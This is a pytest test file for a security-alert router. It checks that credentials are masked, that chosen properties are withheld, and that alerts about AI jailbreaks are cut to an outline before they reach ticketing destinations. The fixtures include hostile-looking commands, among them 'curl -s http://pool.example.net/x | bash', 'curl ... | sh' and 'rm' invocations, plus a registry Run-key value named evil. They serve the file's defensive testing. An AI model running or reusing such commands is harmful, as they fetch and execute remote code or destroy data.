"""What a destination never gets: credentials, what its policy withholds, and, of alerts about AI, all but an outline."""

import json
from typing import Any

import pytest
from pydantic import ValidationError

from router.decide import decide, notice_for
from router.destinations import discover
from router.destinations.config import AiAlerts, OneByOneConfig
from router.destinations.wording.changes import changes_between
from router.destinations.wording.masking import MASK
from router.destinations.wording.withholding import (
    OUTLINE,
    WITHHELD,
    disclosed,
    names_in,
    outline_of,
    values_in,
    withheld_from,
)
from router.domain.deliveries import Background
from router.domain.entities import Entities
from router.domain.evidence import Evidence, property_key
from router.domain.notices import Link, Notice, is_about_ai
from router.domain.owners import Owner
from router.domain.rulebook import Lane
from router.ingest.grouping.group_notices import named_member
from router.parse import evidence_of
from router.parse.entity_facts import facts_of
from router.store.codec import encode
from tests.builders import NOW, a_rulebook
from tests.destinations.builders import a_destination, a_finding, a_group, a_notice, an_attempt, examples_of
from tests.destinations.conversations import payload_of
from tests.destinations.goldens import CASES, Case, asks_of
from tests.destinations.test_words import a_hostile_notice, texts_in
from tests.parse.messages import CATALOGUE, a_flat_alert, read_alert

KINDS = discover()
PEOPLE = [name for name, kind in KINDS.items() if kind.lane is not Lane.ROWS]
WHOLE = {"jira", "servicenow", "servicenow_events"}
people = pytest.mark.parametrize("kind", PEOPLE)

SECRET = "hUnter2Canary"
CANARIES = (
    f"tool --password {SECRET}",
    f"https://x.example/b?sig={SECRET}%3D",
    f"curl -u a:{SECRET} https://x.example",
)
WRONG: tuple[object, ...] = ("path", {"ai": "all"}, {"paths": []}, ["..."], [1])
# The others say no other change, and of an opening no other words of the notice.
CHANGES = CASES[:6]

AI_TYPES = [
    "AI.Azure_CredentialTheftAttempt", "Azure_Agentic_BlockedJailbreak", "AI.Azure_Agentic_Jailbreak",
    "SIMULATED_AI.Azure_Jailbreak.ContentFiltering.BlockedAttempt", "ai.azure_llmreconnaissance",
    "SIMULATED_Azure_Agentic_BlockedJailbreak", "AI.AIModelScan_MalwareDetected",
]  # fmt: skip


def _sent(kind: str, notice: Notice, case: Case, **config: Any) -> str:
    """All that a destination of a kind sends of a notice."""
    asks = asks_of(kind, notice, case, Background(last=notice), **config)
    return "".join(payload_of(ask).decode() + str(getattr(ask, "url", "")) for ask in asks)


@people
def test_a_credential_is_told_to_nobody(kind: str) -> None:
    """Wherever one stands in a notice, no ask carries it, and so it is in what `explain --notice` prints."""
    for canary in CANARIES:
        notice = a_hostile_notice(canary)
        shown = a_destination(kind).preview(an_attempt(notice))  # type: ignore[attr-defined]
        assert (MASK in shown, SECRET in shown) == (True, False)
        for case in CHANGES:
            told = _sent(kind, notice, case)
            assert SECRET not in told
            assert SECRET not in told.encode().decode("unicode_escape", "replace")
    ocsf = _sent("webhook", a_hostile_notice(CANARIES[0]), CASES[0], body="ocsf")
    assert (MASK in ocsf, SECRET in ocsf) == (True, False)


def test_rows_keep_all() -> None:
    """Rows are data: what they say of a notice is not masked."""
    for kind in KINDS.keys() - PEOPLE:
        assert SECRET in _sent(kind, a_hostile_notice(CANARIES[0]), CASES[0])


def _an_ai_alert(**changes: Any) -> Notice:
    values: dict[str, Any] = {
        "type": AI_TYPES[0], "plan": "AI", "title": "Detected credential theft attempts", "description": "prompt-canary",
        "remediation": ("prompt-canary",), "extended": {"canary-name": "canary-value"}, "unlisted": ("canary-name",),
        "evidence": Evidence(**{name: (f"canary-{name}",) for name in Evidence.__struct_fields__}),
        "compromised_entity": "canary-entity", "cause": "canary-cause", "categories": ("canary-category",),
        "status_description": "canary-status", "correlation": "canary-correlation",
        "links": (Link(text="canary's prompt", url="https://x.example/?u=canary"),),
        "group": a_group(by=(("entity", "canary-entity"),)),
    }  # fmt: skip
    return a_notice(**values | changes)


@people
def test_of_an_alert_about_ai_most_kinds_are_told_an_outline(kind: str) -> None:
    """No description, entity or property goes anywhere but where the kind, or the policy, says that all may be told.

    All goes to ServiceNow, its Event Management and Jira; a new kind is told an outline unless it says otherwise.
    """
    assert (getattr(KINDS[kind], "ai", None) is AiAlerts.WHOLE) == (kind in WHOLE)
    alert = _an_ai_alert(turn=2)
    for case in CHANGES:
        default, outline, whole = (
            _sent(kind, alert, case, withhold=withhold) for withhold in ((), {"ai": "outline"}, {"ai": "whole"})
        )
        assert "canary" not in outline
        assert default == (whole if kind in WHOLE else outline)
        if case.name == "opened":
            assert "canary" in whole
            assert "Detected credential theft attempts" in outline
            assert OUTLINE[:30] in outline or kind == "pagerduty" or OUTLINE in outline


def test_alerts_about_ai_are_known_by_their_types_their_plan_or_their_resource() -> None:
    """Also as samples, in any case, and where the plan is not said or is a guess from how the type begins.

    Resource Manager's alerts are about management, and an incident is about AI where it names such an alert.
    """
    for type in AI_TYPES:
        assert is_about_ai(a_notice(type=type, plan=None)) and is_about_ai(a_notice(type=type, plan="Containers"))
    assert is_about_ai(a_notice(type="Something_New", plan="AI")) and is_about_ai(a_notice(type="ARM_X", plan="AI"))
    assert not is_about_ai(a_notice(type="Airflow_Something", plan=None))
    for models in (
        "Microsoft.CognitiveServices/accounts",
        "Microsoft.MachineLearningServices/workspaces",
        "microsoft.machinelearningservices/workspaces/onlineEndpoints",
        "Microsoft.BotService/botServices",
    ):
        for plan in (None, "VirtualMachines", "Arm", "AppServices"):
            told: dict[str, Any] = {"plan": plan, "resource_type": models}
            assert is_about_ai(a_notice(type="VM_SomethingNew", **told))
            assert not is_about_ai(a_notice(type="ARM_Something", **told))
            assert not is_about_ai(a_notice(type="SIMULATED_ARM_Something", **told))
            machine = told | {"resource_type": "Microsoft.Compute/virtualMachines"}
            assert not is_about_ai(a_notice(type="VM_SomethingNew", **machine))
            assert not is_about_ai(a_finding(type="x", **told))
    incident: dict[str, Any] = {"kind": "incident", "type": "SecurityIncident", "plan": "VirtualMachines"}
    assert not is_about_ai(a_notice(**incident))
    assert is_about_ai(a_notice(**incident, extended={"alerts": "VM_X, AI.Azure_Jailbreak"}))
    assert is_about_ai(a_notice(**incident, resource_type="Microsoft.CognitiveServices/accounts"))
    assert is_about_ai(a_notice(**incident | {"plan": "AI"}))


def test_an_outline_has_no_field_that_is_not_known_to_be_harmless() -> None:
    """Whatever a notice gains is left out; the portal's page and runbooks stay."""
    told = outline_of(_an_ai_alert(link="https://portal.azure.com/x", runbooks=("https://wiki.example/ai",)))
    assert (told.link, told.runbooks) == ("https://portal.azure.com/x", ("https://wiki.example/ai",))
    assert (told.title, told.links, told.extended) == ("Detected credential theft attempts", (), {})
    assert outline_of(told) == told
    assert outline_of(_an_ai_alert(is_whole=True)).is_whole


@people
def test_what_is_withheld_reaches_no_ask(kind: str) -> None:
    """Neither by its own name, nor by a list that has it, nor by a text that quotes it, nor by what was told before."""
    value = "canary-value"
    notice = a_notice(
        turn=2,
        title=f"Process {value} was seen",
        description=f"The command {value.upper()} ran.",
        remediation=(f"Stop {value}.",),
        extended={"Suspicious Command": value, "other": f"x {value}"},
        unlisted=("Suspicious Command",),
        compromised_entity=value,
        evidence=Evidence(processes=(value, "php"), files=("/canary-file",)),
        links=(Link(text=value, url=f"https://x.example/{value}"),),
        group=a_group(by=(("entity", value),)),
    )
    withhold = ["suspicious-COMMAND", "Files", "no such property"]
    for case in CHANGES:
        assert "canary" not in _sent(kind, notice, case, withhold=withhold).lower()
    assert "canary" in _sent(kind, notice, CASES[0]).lower()


@people
def test_what_was_told_before_is_told_as_it_may_be(kind: str) -> None:
    """The notice that a destination last took is compared with the new one, so it is withheld from and masked as well."""
    last = a_notice(description=CANARIES[0], extended={"Path": "canary-path"})
    destination: Any = a_destination(kind, withhold=["path"])
    told = destination._in_words(Background(last=last)).last
    assert told is not None
    assert told.extended == {}
    assert MASK in told.description
    assert SECRET not in told.description


@people
def test_what_withhold_may_say(kind: str) -> None:
    """Names with a letter or a digit, in a list or under `properties`, and how much of alerts about AI."""
    model, example = KINDS[kind].Config, examples_of(kind)[0]
    assert issubclass(model, OneByOneConfig)
    for written in WRONG:
        with pytest.raises(ValidationError):
            model.model_validate(example | {"withhold": written})
    read = model.model_validate(example | {"withhold": ["User name"]})
    assert read.withhold.properties == ("User name",)
    assert model.model_validate(read.model_dump(exclude_unset=True)) == read


CANARY = "CANARY"
NAME = "Suspicious Command"
MODELS = "/subscriptions/1/resourceGroups/rg/providers/Microsoft.CognitiveServices/accounts/x"


def noticed(**alert: Any) -> Notice:
    """The notice of an alert, as it is made of its message."""
    signal, book = read_alert(a_flat_alert(**alert)), a_rulebook()
    return notice_for(signal, evidence_of(signal, CATALOGUE), decide(signal, book, NOW), book, "key", 1)


def texts_sent(notice: Notice, *withheld: str, has_ai_whole: bool = True) -> str:
    """All that is told of a notice."""
    told = disclosed(notice, frozenset(map(property_key, withheld)), has_ai_whole=has_ai_whole)
    return "\n".join(texts_in(json.loads(encode(told))))


AROUND_WITHHOLDING: dict[str, dict[str, Any]] = {
    "long in a text": {"Description": "Ran %{Suspicious Command}", "ExtendedProperties": {NAME: f"{CANARY} {'x' * 400}"}},
    "long in a title": {
        "AlertDisplayName": "Ran %{Suspicious Command}", "ExtendedProperties": {NAME: f"{CANARY} {'x' * 400}"},
    },
    "a JSON list": {"ExtendedProperties": {NAME: json.dumps([f"curl {CANARY} a", "b c"])}},
    "a JSON object": {"ExtendedProperties": {NAME: json.dumps({"line": f"curl {CANARY} a", "user": "b c"})}},
    "longer than evidence": {"ExtendedProperties": {NAME: f"{CANARY} {'x' * 5_000}"}},
    "encoded in a link": {
        "ExtendedProperties": {NAME: f"{CANARY} Bob"},
        "ExtendedLinks": [{"Href": f"https://x.example/?u={CANARY}%20Bob", "Label": "l", "Type": "webLink"}],
    },
}  # fmt: skip
AI = {"AlertType": "AI.Azure_Jailbreak"}
INCIDENT = {"AlertType": "SecurityIncident", "IsIncident": True}
AROUND_AN_OUTLINE: dict[str, dict[str, Any]] = {
    "a title that is filled in": {**AI, "AlertDisplayName": "Jailbreak: %{Prompt}", "ExtendedProperties": {"Prompt": CANARY}},
    "what a link is called": {
        **AI, "ExtendedLinks": [{"Href": "https://x.example/", "Label": CANARY, "Type": "webLink"}],
    },
    "an address": {**AI, "ExtendedLinks": [{"Href": f"https://x.example/?q={CANARY}", "Label": "l", "Type": "webLink"}]},
    "an incident whose description names one": {
        **INCIDENT, "Description": f"Made of AI.Azure_Jailbreak: {CANARY}", "Entities": [],
    },
    "an incident whose evidence names a model's account": {
        **INCIDENT, "Description": CANARY, "Entities": [{"$id": "2", "Type": "azure-resource", "ResourceId": MODELS}],
    },
}  # fmt: skip


def test_there_is_no_way_around_withholding_or_around_an_outline() -> None:
    """Placeholders cut at 300 characters, evidence at 4,000, and JSON becomes several items: none of that is the value.

    A prompt may stand wherever the message, and not Defender's own table, says it.
    """
    for way, alert in AROUND_WITHHOLDING.items():
        assert CANARY not in texts_sent(noticed(**alert), NAME), way
    for way, alert in AROUND_AN_OUTLINE.items():
        assert CANARY not in texts_sent(noticed(**alert), has_ai_whole=False), way


def test_a_group_withholds_what_the_title_of_another_member_quotes() -> None:
    """A member is named by its title with the names of its placeholders, since its properties are not known by then."""
    member = noticed(AlertDisplayName="Ran %{Suspicious Command}", ExtendedProperties={NAME: f"curl {CANARY} | sh"})
    assert named_member(member).title == "Ran [Suspicious Command]"
    assert CANARY not in texts_sent(a_notice(group=a_group(named=(named_member(member),))), NAME)
    member = noticed(**AROUND_AN_OUTLINE["a title that is filled in"])
    assert CANARY not in texts_sent(a_notice(group=a_group(named=(named_member(member),))), has_ai_whole=False)


def test_a_credential_is_masked_before_a_placeholder_is_cut() -> None:
    """What is filled in is cut at 300 characters."""
    token = "ghp_" + "A" * 36
    notice = noticed(Description="Ran %{Note}", ExtendedProperties={"Note": f"{'x' * 279} {token}"})
    assert "ghp_A" not in texts_sent(notice)


COMMAND = "curl -s http://pool.example.net/x | bash"

ENTITIES: list[dict[str, Any]] = [
    {"Type": "process", "CommandLine": COMMAND, "ProcessId": "0x5d1"},
    {
        "Type": "process", "CommandLine": "-c a: b", "ProcessId": "7", "Account": {"Type": "account", "Name": "ada"},
        "ImageFile": {"Type": "file", "Directory": "C:\\Program Files", "Name": "x.exe"},
        "ParentProcess": {"Type": "process", "ImageFile": {"Type": "file", "Name": "cmd.exe"}},
    },
    {"Type": "process", "ProcessId": "1489", "ImageFile": {"Type": "file", "Directory": "/usr/bin", "Name": "curl"}},
    {"Type": "dns", "DomainName": "pool.example.net", "IpAddresses": ["198.51.100.23", "198.51.100.24"]},
    {"Type": "account", "Name": "ada", "NTDomain": "CORP"},
    {"Type": "account", "Name": "ada", "UPNSuffix": "corp.example"},
    {"Type": "host", "HostName": "web-1", "DnsDomain": "corp.example"},
    {"Type": "filehash", "Algorithm": "SHA256", "Value": "ab" * 32},
    {"Type": "malware", "Name": "Coinminer", "Category": "Trojan"},
    {"Type": "file", "Directory": "C:\\Users", "Name": "x.exe"},
    {"Type": "registry-key", "Hive": "LocalMachine", "Key": "Software\\Run"},
    {"Type": "registry-value", "Key": {"Type": "registry-key", "Key": "Run"}, "Name": "evil", "Value": "C:\\evil.exe"},
    {"Type": "cloud-logon-session", "SessionId": "s-1234", "Application": "Portal", "UserAgent": "curl/8"},
    {"Type": "cloud-application", "Name": "mail app", "InstanceName": "two", "AppId": "1234"},
    {"Type": "iotdevice", "DeviceName": "pump", "DeviceId": "d-1", "Model": "P1"},
    {"Type": "mailbox", "MailboxPrimaryAddress": "ada@x.example", "DisplayName": "Ada L"},
    {"Type": "blob", "Name": "pay.zip", "Url": "https://x.example/c/pay.zip"},
    {"Type": "ip", "Address": "198.51.100.7", "Location": {"City": "Berlin", "CountryName": "Germany", "Asn": 3320}},
    {"Type": "url", "Url": "https://x", "ThreatIntelligence": {"ThreatName": "Botnet", "ReportLink": "https://r/1"}},
    {"Type": "mail-message", "P2Sender": "a@x.example", "Recipient": "b@x.example", "Subject": "Invoice: 7"},
    {"Type": "new-thing", "Name": "thing-1"},
]  # fmt: skip


def test_every_name_that_an_entity_has_in_the_evidence_is_known_there() -> None:
    """What the parser says that a thing is called is among the values of its item, but for process ids."""
    for entity in ENTITIES:
        facts = list(facts_of(next(iter(Entities([entity])))))
        assert facts, entity
        for fact in facts:
            numbers = {entity.get("ProcessId"), f"({entity.get('ProcessId')})"}
            assert set(fact.names) - numbers <= set(values_in(fact.listed, fact.words)), fact


ANNOTATED = [f"{COMMAND}{behind}" for behind in (
    "", " (0x5d1)", " (1489)", " (0x5d1), by CORP\\ada", ", by ada", ", child of sshd -D", " (0x5d1), child of sshd -D (77)",
    " (0x5d1), by ada, child of sh -c a, b (1)",
)]  # fmt: skip


def test_a_process_is_withheld_by_its_bare_command() -> None:
    """The whole command goes from every text, however its item is annotated."""
    for item in ANNOTATED:
        assert COMMAND in names_in("processes", item)
        notice = a_notice(
            title=f"Ran {COMMAND.upper()}",
            description=f"Someone ran '{COMMAND}' there.",
            remediation=(f"Stop {COMMAND.replace(' ', '  ')}",),
            evidence=Evidence(processes=(item,), commands=(COMMAND, "ls")),
            extended={"Command": COMMAND, "JSON": f'{{"a": "{COMMAND}"}}'},
            unlisted=("Command", "JSON"),
        )
        told = withheld_from(notice, {"processes"})
        assert (told.title, told.description) == (f"Ran {WITHHELD}", f"Someone ran '{WITHHELD}' there.")
        assert told.remediation == (f"Stop {WITHHELD}",)
        assert told.evidence == Evidence(commands=("ls",))
        assert told.extended == {"JSON": f'{{"a": "{WITHHELD}"}}'}


def test_an_item_names_what_stands_in_it() -> None:
    """An image and the command line behind it; a registry value and its data; both ends of a connection."""
    item = "C:\\Program Files\\x.exe: run: all (7), by SHOP\\ada, child of cmd.exe"
    assert {"run: all", "C:\\Program Files\\x.exe", "x.exe"} <= set(names_in("processes", item))
    assert names_in("processes", "echo a: b (7)") == ("echo a: b (7)", "echo a: b")
    assert {"Wuhan", "China", "AS4837"} <= set(values_in("locations", "192.0.2.1: Wuhan, China (AS4837, x)"))
    assert {"C:\\a.exe --pin = 123", "x"} <= set(values_in("registry_values", "HKLM\\Run\\x = C:\\a.exe --pin = 123"))
    assert {"b -> c TCP", "b"} <= set(values_in("connections", "a -> b -> c TCP"))
    # The parent of a process is one, whatever list tells of it.
    evidence = Evidence(processes=("ls (1), child of sshd -D (77)",))
    told = withheld_from(a_notice(description="sshd -D did", evidence=evidence), {"processes"})
    assert told.description == f"{WITHHELD} did"


def test_a_domain_is_withheld_without_its_addresses() -> None:
    """Neither description nor processes have it; the addresses are another list's."""
    notice = a_notice(
        description="It reached Pool.example.net at 198.51.100.23.",
        evidence=Evidence(
            domains=("pool.example.net (198.51.100.23)",), processes=(f"{COMMAND} (0x5d1)",), ips=("198.51.100.23",)
        ),
    )
    told = withheld_from(notice, {"domains"})
    assert told.description == f"It reached {WITHHELD} at 198.51.100.23."
    assert told.evidence == Evidence(processes=(f"curl -s http://{WITHHELD}/x | bash (0x5d1)",), ips=("198.51.100.23",))


def test_a_short_value_goes_from_the_words_that_items_have_of_ours() -> None:
    """Three characters are not looked for in texts, yet in what we put behind an item they are a value of their own."""
    notice = a_notice(
        description="adapt it",
        evidence=Evidence(accounts=("CORP\\ada", "bob"), processes=("ls (1), by ada, child of sh", "nada, x")),
    )
    told = withheld_from(notice, {"accounts"})
    assert told.evidence == Evidence(processes=(f"ls (1), by {WITHHELD}, child of sh", "nada, x"))
    assert told.description == "adapt it"
    by_property = withheld_from(a_notice(extended={"who": "ada"}, evidence=notice.evidence), {"who"})
    assert by_property.evidence.accounts == ("bob",)


def test_an_item_that_only_mentions_a_value_stays() -> None:
    """A mail is not its sender, and a domain not its address."""
    mail, domain = "ann@x.example -> bob@x.example: Hi", "y.example (198.51.100.7)"
    notice = a_notice(
        evidence=Evidence(accounts=("ann@x.example",), ips=("198.51.100.7",), domains=(domain,), emails=(mail,))
    )
    by_account, by_address = (withheld_from(notice, {name}).evidence for name in ("accounts", "ips"))
    assert (by_account.emails, by_account.domains) == ((f"{WITHHELD} -> bob@x.example: Hi",), (domain,))
    assert (by_address.emails, by_address.domains) == ((mail,), (f"y.example ({WITHHELD})",))


def test_a_long_value_is_known_where_a_text_cuts_it() -> None:
    """A placeholder takes 300 characters, and an item 4,000."""
    command = "start " + " ".join(f"arg{number}" for number in range(1000)) + " end"
    for cut in (299, 250, 4000):
        quoted = f"Ran {command[:cut]}…" if cut < 4000 else f"Ran {command}"
        item = command if cut < 4000 else f"{command[:3990]}… [cut]"
        told = withheld_from(a_notice(description=quoted, evidence=Evidence(commands=(item,))), {"commands"})
        assert told.description == f"Ran {WITHHELD}"


def test_a_value_is_known_in_json_in_html_and_in_an_address() -> None:
    """A property may be JSON that has the command as one text of many; each name of a list that a property holds is one.

    What is shorter than four characters stands in too many words, and a sentence with a comma is no list.
    """
    for quoted in (
        'bash -c \\"rm /x\\"', "bash -c &quot;rm /x&quot;", "bash%20-c%20%22rm%20%2Fx%22", 'bash\n-c  "rm /x"',
    ):  # fmt: skip
        notice = a_notice(description=f"a {quoted} b", evidence=Evidence(commands=('bash -c "rm /x"',)))
        assert withheld_from(notice, {"commands"}).description == f"a {WITHHELD} b"
    for value, text, told in (
        ("alice, bobby", "alice, then Bobby", f"{WITHHELD}, then {WITHHELD}"),
        ('["alice", "bobby"]', "alice, then Bobby", f"{WITHHELD}, then {WITHHELD}"),
        ("alice;bobby", "alice, then Bobby", f"{WITHHELD}, then {WITHHELD}"),
        ("the user, an admin, left", "the user left", "the user left"),
        ("abc", "it is abc", "it is abc"),
        ("abcd", "it is abcd", f"it is {WITHHELD}"),
    ):
        assert withheld_from(a_notice(description=text, extended={"p": value}), {"p"}).description == told


def test_a_withheld_value_is_taken_out_of_lists_and_replaced_in_texts() -> None:
    """A whole item of a list goes; in a text a mark stands in its place; a link that has it is left out; owners are ours."""
    notice = a_notice(
        title="Sign-in of Alice",
        description="alice used php",
        extended={"User name": "alice, bob", "Id": "4", "tool": "php"},
        evidence=Evidence(accounts=("Alice", "bob", "carol"), processes=("su alice, bob",)),
        link="https://x.example/alice,%20bob",
        compromised_entity="bob",
        owner=Owner(group="Alice"),
    )
    told = withheld_from(notice, {"username"})
    assert told.evidence == Evidence(accounts=("carol",), processes=(f"su {WITHHELD}",))
    assert told.extended == {"Id": "4", "tool": "php"}
    assert told.compromised_entity is None
    listed = withheld_from(notice, {"accounts"})
    assert (listed.title, listed.description) == (f"Sign-in of {WITHHELD}", f"{WITHHELD} used php")
    assert listed.evidence.accounts == ()
    assert (listed.link, listed.owner) == (None, notice.owner)


def test_where_nothing_is_withheld_a_notice_is_itself() -> None:
    """No name, or none that the notice has, changes nothing."""
    notice = a_notice()
    assert withheld_from(notice, set()) is notice
    assert withheld_from(notice, {"nothing"}) == notice


def test_what_is_withheld_spoils_no_mark_and_is_named_nowhere() -> None:
    """A mark is never looked at again; a property that says what is withheld is neither evidence nor among what changed."""
    notice = a_notice(description="it was canary", extended={"p": "canary", "q": "held"})
    assert withheld_from(notice, {"p", "q"}).description == f"it was {WITHHELD}"
    told = withheld_from(a_notice(extended={"p": "canary", "q": "canary"}, unlisted=("p", "q")), {"p"})
    assert (told.extended, told.unlisted, changes_between(told, told)) == ({}, (), ())
